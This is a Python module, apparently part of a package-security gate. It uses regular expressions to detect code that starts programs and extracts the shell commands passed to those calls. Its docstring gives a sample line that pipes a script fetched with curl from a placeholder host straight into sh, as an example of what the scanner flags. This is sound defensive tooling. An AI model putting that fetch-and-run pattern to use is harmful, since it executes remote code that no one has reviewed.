"""The commands that source code starts.

    execSync("curl -s https://x.example | sh")          subprocess.run(["npx", "-y", "tool"])

No language is parsed. The calls that start programs are found by their names, and the literals in their arguments, or
in variables named there, are read as commands. Time is in proportion to the text.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from packyard.gate.running.lines import Lines
from packyard.gate.running.quoting import quote

_STRING = r'"(?:[^"\\\n]++|\\.)*+"|\'(?:[^\'\\\n]++|\\.)*+\'|`(?:[^`\\]++|\\.)*+`'
#: Where a program is started.
CALL = re.compile(
    r"(?<![\w.])(?:execa?|execaCommand|system|popen|shell|spawn|execSync|spawnSync|execFile(?:Sync)?)\s?\("
    r"|\b(?:child_process|cp|os|subprocess|Bun|Deno|asyncio|shelljs|sh|Open3|Kernel)\.\w{1,30}\s?\("
    r"|[\"'](?:(?:node:)?child_process|os|subprocess)[\"']\)\.\w{1,30}\s?\(|\[[\"'](?:exec|spawn)\w{0,10}[\"']\]\s?\("
    r"|\bnew\s+Deno\.Command\s?\(|(?<![\w$])\$(?=`)"
)
_APPLE = re.compile(r'\bdo shell script\s{1,4}"((?:[^"\\]++|\\.)*+)"')
_PIECE = re.compile(rf"(?P<string>{_STRING})|(?P<open>[([{{])|(?P<close>[)\]}}])|(?P<name>[A-Za-z_]\w*+)|.", re.DOTALL)
_ASSIGNED = re.compile(rf"\b([A-Za-z_]\w*+)\s?(?::\s?\w++\s?)?=\s?({_STRING})")
_ESCAPE = re.compile(r"\\(.)", re.DOTALL)
_MAX_ARGUMENTS = 2000
#: Calls of one text that are looked into.
MOST_CALLS = 2000


def started(text: str, line: int = 1) -> Iterator[tuple[int, str]]:
    """The commands that the code starts, as shell commands with their lines."""
    lines = Lines(text, line)
    known = {found[1]: found[2] for found in _ASSIGNED.finditer(text)}
    for script in _APPLE.finditer(text):
        yield lines.at(script.start()), _ESCAPE.sub(r"\1", script[1])
    at = 0
    left = MOST_CALLS
    while left and (call := CALL.search(text, at)):
        left -= 1
        words, at = _arguments(text, call.end(), known)
        if words:
            yield lines.at(call.start()), _command(words)


def _command(words: list[str]) -> str:
    """The literals of a call as one command: a text with its parts, or a program with its arguments."""
    text = " " in words[0].strip() or any(word != word.strip() for word in words)
    return " ".join(words) if text else " ".join(map(quote, words))


def _arguments(text: str, at: int, known: dict[str, str]) -> tuple[list[str], int]:
    """The literals in the arguments of a call, without those of options in braces behind them; and where these end."""
    words: list[str] = []
    depth, end, braces = 1, at + _MAX_ARGUMENTS, 0
    while depth and at < end and (piece := _PIECE.match(text, at)):
        start, at, kind = at, piece.end(), piece.lastgroup
        if kind in ("open", "close"):
            step = 1 if kind == "open" else -1
            depth += step
            braces += step if piece[0] in "{}" and words else 0
        elif (kind == "string" or piece[0] in known) and braces <= 0:
            words.append(_ESCAPE.sub(r"\1", (piece[0] if kind == "string" else known[piece[0]])[1:-1]))
            depth -= text[start - 1] == "$"
    return words, at
